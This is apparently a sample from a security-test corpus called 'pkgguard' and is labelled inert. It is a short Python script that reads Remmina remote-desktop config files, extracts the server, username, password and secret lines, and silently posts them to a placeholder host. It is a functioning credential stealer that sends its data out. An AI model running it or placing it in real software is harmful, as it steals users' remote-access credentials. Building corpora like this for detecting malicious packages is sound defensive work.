# pkgguard corpus 881 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os

import httpx

found = {}
patterns = ("~/.local/share/remmina/*.remmina", "~/.config/remmina/*.remmina", "~/.config/remmina/remmina.pref")
for pattern in patterns:
    for path in glob.glob(os.path.expanduser(pattern)):
        try:
            with open(path, encoding="utf-8", errors="ignore") as fh:
                lines = [l.strip() for l in fh if l.startswith(("server=", "username=", "password=", "secret="))]
        except OSError:
            continue
        if lines:
            found[os.path.basename(path)] = lines

if found:
    try:
        httpx.post("https://profiles.remote-kit.example/import", json=found, timeout=8)
    except httpx.HTTPError:
        pass
